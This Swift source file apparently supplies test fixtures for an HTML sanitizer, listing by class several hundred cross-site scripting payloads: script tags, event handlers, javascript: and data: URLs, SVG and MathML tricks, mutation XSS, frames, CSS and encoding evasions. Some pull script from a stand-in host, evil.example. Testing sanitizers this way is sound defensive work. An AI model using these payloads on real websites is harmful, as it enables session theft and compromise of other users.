/// Attacks on the cleaner, by class. Each contains `alert(`, `evil` or a forbidden scheme, which may remain in text but
/// not in a URL, attribute or element.
enum Payloads {
  static let all: [String] =
    scripts + handlers + addresses + sources + foreign + confusion + rawText + frames + styles + documents + comments
    + attributes + tables + encodings

  static let scripts = [
    #"<script>alert(1)</script>"#, #"<SCRIPT>alert(1)</SCRIPT>"#, #"<script src=//evil.example/x.js></script>"#,
    #"<script/src=//evil.example/x.js></script>"#, #"<script type=module>import '//evil.example'</script>"#,
    #"<scr<script>ipt>alert(1)</scr</script>ipt>"#, #"<<script>alert(1);//<</script>"#, #"<script>alert(1)"#,
    #"<script>alert(1)</script foo>"#, "<script\n>alert(1)</script\n>", "<script\u{0}>alert(1)</script>",
    #"<script x=">">alert(1)</script>"#, #"<script><!--<script>alert(1)</script>--></script>"#,
    #"<script>var a="</script><script>alert(1)</script>"#, #"<script />alert(1)"#, #"<b/><script>alert(1)</script>"#,
    "<\u{0}script>alert(1)</\u{0}script>", "<script\u{C}src=//evil.example></script>",
    #"</p><script>alert(1)</script>"#,
    #"<noembed><script>alert(1)</script></noembed>"#,
  ]

  static let handlers = [
    #"<img src=x onerror=alert(1)>"#, #"<img/src=x/onerror=alert(1)>"#, #"<img src=x ONERROR=alert(1)>"#,
    #"<img src=x onerror="alert(1)"//>"#, #"<p onclick=alert(1)>x</p>"#, #"<body onload=alert(1)>x"#,
    #"<details open ontoggle=alert(1)>x</details>"#, #"<video src=x onerror=alert(1)></video>"#,
    #"<audio src=x onerror=alert(1)></audio>"#, #"<a href=x onmouseover=alert(1)>x</a>"#,
    #"<marquee onstart=alert(1)>x</marquee>"#, #"<img src=x onerror&#61;alert(1)>"#, "<img src=x onerror\n=\nalert(1)>",
    "<img src=x\u{C}onerror=alert(1)>", #"<img src='x'onerror='alert(1)'>"#,
    #"<img """><img src=x onerror=alert(1)>">"#,
    #"<img src=`x`onerror=alert(1)>"#, #"<div onpointerenter=alert(1) style=display:block>x</div>"#,
    #"<p on<b>click=alert(1)>x"#, #"<x onfocus=alert(1) tabindex=1 autofocus>x</x>"#, #"<img src=x on error=alert(1)>"#,
    #"<video><source onerror=alert(1)></video>"#, #"<table background=x onresize=alert(1)><td>x"#,
    #"<input autofocus onfocus=alert(1)>"#, #"<select onfocus=alert(1) autofocus></select>"#,
    #"<textarea onfocus=alert(1) autofocus></textarea>"#, #"<keygen onfocus=alert(1) autofocus>"#,
  ]

  static let addresses = [
    #"<a href=javascript:alert(1)>x</a>"#, #"<a href=JaVaScRiPt:alert(1)>x</a>"#,
    #"<a href=" javascript:alert(1)">x</a>"#,
    "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\u{0}script:alert(1)\">x</a>", "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    #"<a href="&#106;avascript:alert(1)">x</a>"#, #"<a href="&#x6A;avascript:alert(1)">x</a>"#,
    #"<a href="&#0000106avascript:alert(1)">x</a>"#, #"<a href="javascript&colon;alert(1)">x</a>"#,
    #"<a href="javascript&#58;alert(1)">x</a>"#, #"<a href="java&Tab;script:alert(1)">x</a>"#,
    #"<a href="java&NewLine;script:alert(1)">x</a>"#, #"<a href="&#1;javascript:alert(1)">x</a>"#,
    "<a href=\"\u{A0}javascript:alert(1)\">x</a>", "<a href=\"\u{2028}javascript:alert(1)\">x</a>",
    #"<a href=vbscript:alert(1)>x</a>"#, #"<a href="livescript:alert(1)">x</a>"#,
    #"<a href="data:text/html,<script>alert(1)</script>">x</a>"#,
    #"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#, #"<a href="blob:evil">x</a>"#,
    #"<a href="file:///etc/passwd">x</a>"#, #"<a href="view-source:javascript:alert(1)">x</a>"#,
    #"<a href="feed:javascript:alert(1)">x</a>"#, #"<a href="jar:http://evil.example!/x">x</a>"#,
    #"<a href="http:javascript:alert(1)">x</a>"#, #"<a href="javascript://example.com/%0aalert(1)">x</a>"#,
    #"<a href="https:">x</a>"#, #"<a href="http://">x</a>"#, #"<a href="http:///evil.example">x</a>"#,
    #"<a href="http:\\evil.example">x</a>"#, #"<a href="\\evil.example">x</a>"#, #"<a href="/\evil.example">x</a>"#,
    #"<a href=x ping=//evil.example>x</a>"#, #"<a href=x target=_blank download>x</a>"#,
    #"<q cite=javascript:alert(1)>x</q>"#,
    #"<blockquote cite="javascript:alert(1)">x</blockquote>"#, #"<del cite=javascript:alert(1)>x</del>"#,
    #"<a href="java&#x00A0;script:alert(1)">x</a>"#, #"<a href="javascript&#x003A;alert(1)">x</a>"#,
    #"<a href="mailto:a@b.example?body=<script>alert(1)</script>">x</a>"#, #"<a href='tel:1"onclick=alert(1)'>x</a>"#,
    #"<a xlink:href=javascript:alert(1)>x</a>"#, #"<a href="x" href="javascript:alert(1)">x</a>"#,
    #"<a href="" href="javascript:alert(1)">x</a>"#, #"<area href=javascript:alert(1)>"#,
    #"<base href=javascript:alert(1)//>x"#,
    #"<form action=javascript:alert(1)><button>x</button></form>"#,
    #"<button formaction=javascript:alert(1)>x</button>"#,
    #"<isindex action=javascript:alert(1) type=image>"#,
  ]

  static let sources = [
    #"<img src=javascript:alert(1)>"#, #"<img src="data:image/svg+xml,<svg onload=alert(1)>">"#,
    #"<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">"#,
    #"<img src="data:text/html,<script>alert(1)</script>">"#,
    #"<img src="DATA:IMAGE/SVG+XML;base64,AAAA">"#, #"<img src="data:image/png,<script>alert(1)</script>">"#,
    #"<img src="data:image/png;base64,AAAA\" onerror=alert(1) x=\"">"#, #"<img srcset="javascript:alert(1) 1x">"#,
    #"<img srcset='x" onerror="alert(1) 1x'>"#, #"<img srcset="x 1x, &quot; onerror=alert(1) 2x">"#,
    #"<img srcset='x 1x onerror=alert(1)'>"#, #"<img src=x srcset=",,,javascript:alert(1),, y 2x">"#,
    #"<img src=x srcset="data:image/svg+xml,<svg/onload=alert(1)> 1x">"#, #"<img lowsrc=javascript:alert(1)>"#,
    #"<img dynsrc=javascript:alert(1)>"#,
    #"<img src=x usemap=#evil><map name=evil><area href=javascript:alert(1)></map>"#,
    #"<video poster=javascript:alert(1)></video>"#, #"<video src="data:text/html,alert(1)"></video>"#,
    #"<audio src=javascript:alert(1)></audio>"#,
    #"<picture><source srcset="javascript:alert(1)"><img src=x></picture>"#,
    #"<source src=javascript:alert(1)>"#, #"<track src=javascript:alert(1)>"#, #"<bgsound src=javascript:alert(1)>"#,
    #"<embed src=javascript:alert(1)>"#, #"<image src=javascript:alert(1)>"#,
    #"<img src="x" sizes="url(javascript:alert(1))" srcset="y 1w">"#,
    #"<img data-src="javascript:alert(1)">"#, #"<img src=x longdesc=javascript:alert(1)>"#,
    #"<img src="//evil.example/x.png" crossorigin onerror=alert(1)>"#,
    #"<img alt="x" src=x title='"><script>alert(1)</script>'>"#,
  ]

  static let foreign = [
    #"<svg onload=alert(1)>"#, #"<svg><script>alert(1)</script></svg>"#, #"<svg/onload=alert(1)//"#,
    #"<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>"#, #"<svg><animate onbegin=alert(1)></svg>"#,
    #"<svg><set attributeName=onmouseover to=alert(1)></svg>"#,
    #"<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>"#,
    #"<svg><style><img src=x onerror=alert(1)></style></svg>"#,
    #"<svg><title><img src=x onerror=alert(1)></title></svg>"#,
    #"<svg><desc><script>alert(1)</script></desc></svg>"#,
    #"<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>"#,
    #"<svg><image href=javascript:alert(1)></svg>"#, #"<svg><p><script>alert(1)</script>"#,
    #"<svg></p><style><a id="</style><img src=x onerror=alert(1)>">"#,
    #"<math href=javascript:alert(1)>x</math>"#, #"<math><mtext><script>alert(1)</script></mtext></math>"#,
    #"<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>"#,
    #"<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>"#,
    #"<svg><![CDATA[<script>alert(1)</script>]]></svg>"#, #"<svg><svg></svg><script>alert(1)</script></svg>"#,
  ]

  /// Mutation XSS: trees that become other trees when they are serialized and parsed again.
  static let confusion = [
    #"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">"#,
    #"<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)></style></math>"#,
    #"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"#,
    #"<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">"#,
    #"<noscript><p title="</noscript><img src=x onerror=alert(1)>">"#,
    #"<noembed><p title="</noembed><img src=x onerror=alert(1)>">"#,
    #"<xmp><p title="</xmp><img src=x onerror=alert(1)>">"#,
    #"<listing>&lt;img src=x onerror=alert(1)&gt;</listing>"#,
    #"<textarea></textarea><img src=x onerror=alert(1)></textarea>"#,
    #"<table><td><svg><desc><td><style><a title="</style><img src onerror=alert(1)>">"#,
    #"<p><svg><title></p><style><b title="</style><img src onerror=alert(1)>">"#,
    #"<select><template><style><!--</style><a title="--><img src onerror=alert(1)>">"#,
    #"<a><table><a><svg><style><b id="</style><img src onerror=alert(1)>">"#,
    #"<b><b><b><b><table><b><svg><script>alert(1)</script>"#, #"<table><a href=x><tr><a href=javascript:alert(1)>x"#,
    #"<math><mi><li><table><li></li></table><style></math><img src onerror=alert(1)></style>"#,
    #"<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src onerror=alert(1)>">"#,
    #"<font><p></font><svg><style></p><img src onerror=alert(1)></style>"#,
    #"<option><style></option></select><b><img src=x onerror=alert(1)></style></option>"#,
    #"<dl><dt><svg><dd><style><i title="</style><img src onerror=alert(1)>">"#, #"&lt;img src=x onerror=alert(1)&gt;"#,
    #"<img alt="`` onerror=alert(1)">"#, #"<p title="`onmouseover=alert(1)">x"#,
    #"<div title='"'onclick=alert(1)'>x</div>"#,
  ]

  static let rawText = [
    #"<plaintext><script>alert(1)</script>"#, #"<title><script>alert(1)</script></title>"#,
    #"<title></title><script>alert(1)</script>"#, #"<noframes><script>alert(1)</script></noframes>"#,
    #"<noscript><script>alert(1)</script></noscript>"#, #"<xmp><script>alert(1)</script></xmp>"#,
    #"<textarea><script>alert(1)</script></textarea>"#, #"<template><script>alert(1)</script></template>"#,
    #"<template><template></template><img src=x onerror=alert(1)></template>"#,
    #"<style><script>alert(1)</script></style>"#,
    #"<iframe><script>alert(1)</script></iframe>"#, #"</textarea><script>alert(1)</script>"#,
    #"<noscript><style></noscript><img src=x onerror=alert(1)></style>"#,
    #"<comment><script>alert(1)</script></comment>"#,
  ]

  static let frames = [
    #"<iframe src=javascript:alert(1)></iframe>"#, #"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#,
    #"<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>"#,
    #"<iframe src="data:text/html,<script>alert(1)</script>">"#,
    #"<iframe src=//evil.example></iframe>"#, #"<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>"#,
    #"<iframe src="https://evil.example/?//www.youtube.com/embed/x"></iframe>"#,
    #"<iframe src='https://www.youtube.com/embed/x"onload="alert(1)'></iframe>"#,
    #"<iframe src="https://www.youtube.com/embed/x" title="</a><script>alert(1)</script>"></iframe>"#,
    #"<frameset><frame src=javascript:alert(1)></frameset>"#, #"<frameset onload=alert(1)>"#,
    #"<object data=javascript:alert(1)></object>"#, #"<object type=text/html data=//evil.example></object>"#,
    #"<object><param name=src value=javascript:alert(1)></object>"#, #"<applet code=evil></applet>"#,
    #"<embed type=text/html src=//evil.example>"#, #"<portal src=//evil.example></portal>"#,
    #"<fencedframe></fencedframe>"#,
  ]

  static let styles = [
    #"<p style="background:url(javascript:alert(1))">x"#, #"<p style="width:expression(alert(1))">x"#,
    #"<p style="-moz-binding:url(//evil.example)">x"#, #"<style>@import '//evil.example';</style>"#,
    #"<style>*{background:url(//evil.example)}</style>"#, #"<link rel=stylesheet href=//evil.example>"#,
    #"<p style="position:fixed;inset:0">x"#, #"<p class=evil id=evil>x"#, #"<div style="behavior:url(evil.htc)">x"#,
    #"<table background="javascript:alert(1)"><tr><td>x"#, #"<font style='x' color="javascript:alert(1)">x</font>"#,
    #"<style/><img src=x onerror=alert(1)></style>"#,
  ]

  static let documents = [
    #"<meta http-equiv=refresh content="0;url=javascript:alert(1)">"#, #"<meta http-equiv=set-cookie content=evil>"#,
    #"<base href=//evil.example/>"#, #"<base target=_blank>"#, #"<html onload=alert(1)><body onload=alert(1)>x"#,
    #"<head><script>alert(1)</script></head>"#, #"<link rel=import href=//evil.example>"#,
    #"<link rel=preload as=script href=//evil.example>"#,
    #"<html><head><title>x</title></head><body><script>alert(1)</script></body></html>"#,
    #"<html manifest=//evil.example>"#,
    #"<a id=location name=cookie href=x>x</a>"#, #"<img name=body id=defaultView src=x>"#,
    #"<form id=evil><input name=attributes></form>"#,
    #"<dialog open id=evil>x</dialog>"#, #"<slot name=evil onslotchange=alert(1)></slot>"#,
    #"<p is=evil-element slot=x>x</p>"#,
  ]

  static let comments = [
    #"<!--><script>alert(1)</script>-->"#, #"<!---><script>alert(1)</script>-->"#,
    #"<!-- --!><script>alert(1)</script>"#,
    #"<!--[if IE]><script>alert(1)</script><![endif]-->"#, #"<![if IE]><script>alert(1)</script><![endif]>"#,
    #"<!-- <script>alert(1)</script>"#, #"<!--<!--><script>alert(1)</script>"#,
    #"<! foo="><script>alert(1)</script>">"#,
    #"<?xml version="1.0"?><script>alert(1)</script>"#, #"<?php echo '<script>alert(1)</script>' ?>"#,
    #"</ onclick=alert(1)><script>alert(1)</script>"#, #"<%<script>alert(1)</script>%>"#,
    #"<!DOCTYPE x [<!ENTITY a "<script>alert(1)</script>">]>&a;"#,
    #"<![CDATA[<script>alert(1)</script>]]>"#, #"<![CDATA[><img src=x onerror=alert(1)>]]>"#,
    #"<![CDATA[<a href="]]>javascript:alert(1)">x</a>"#,
    #"<!-- -- ><script>alert(1)</script>"#, #"<!--x--!--><script>alert(1)</script>"#,
  ]

  static let attributes = [
    #"<a href='x" onclick="alert(1)'>x</a>"#, #"<p title='"><img src=x onerror=alert(1)>'>x"#,
    #"<p title="&quot; onclick=&quot;alert(1)">x"#,
    #"<p title=&#34;onclick=alert(1)>x"#, #"<p "onclick"=alert(1)>x"#, #"<p =onclick=alert(1)>x"#,
    #"<p /onclick=alert(1)/>x"#,
    #"<p title=x/onclick=alert(1)>x"#, "<p \u{0}onclick=alert(1)>x", "<p title=\u{0}onclick=alert(1)>x",
    #"<p lang='"onclick=alert(1)'>x"#,
    #"<p dir="rtl&quot;onclick=alert(1)">x"#, #"<td colspan='2"onclick=alert(1)'>x"#,
    #"<img src=x width='1000"onerror=alert(1)'>"#,
    #"<time datetime='x"onclick=alert(1)'>x</time>"#, #"<a href=x rel='x"onclick=alert(1)'>x</a>"#,
    #"<abbr title="&#0;&#8;" onclick=alert(1)>x</abbr>"#,
    #"<p xmlns:x=evil x:onclick=alert(1)>x"#, #"<p xml:base=javascript:alert(1)><a href=x>x</a>"#,
    #"<p{{constructor.constructor('alert(1)')()}}>x"#,
    "<img src=x \u{2028}onerror=alert(1)>", "<p\u{B}onclick=alert(1)>x",
  ]

  static let tables = [
    #"<table><script>alert(1)</script><tr><td>x"#, #"<table><img src=x onerror=alert(1)>"#,
    #"<table><tr><a href=javascript:alert(1)>x</table>"#,
    #"<table><caption><svg onload=alert(1)></caption>"#, #"<table><colgroup><script>alert(1)</script>"#,
    #"<tr onclick=alert(1)><td onclick=alert(1)>x"#,
    #"<table><input type=hidden onfocus=alert(1)>"#, #"<table><form><input></form><script>alert(1)</script></table>"#,
    #"<table><td><table><td><script>alert(1)</script>"#, #"<table><select><script>alert(1)</script>"#,
  ]

  static let encodings = [
    "\u{FEFF}<script>alert(1)</script>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    #"\u003cscript\u003ealert(1)\u003c/script\u003e"#,
    #"%3Cscript%3Ealert(1)%3C/script%3E"#, "＜script＞alert(1)＜/script＞", "<\u{17F}cript>alert(1)</\u{17F}cript>",
    "<img src=x onerror=alert(1)\u{202E}>", #"<a href="javas&#x200B;cript:alert(1)">x</a>"#,
    "<a href=\"java\u{AD}script:alert(1)\">x</a>", "<K\u{212A}BD onclick=alert(1)>x",
    #"<a href="ｊavascript:alert(1)">x</a>"#,
  ]
}
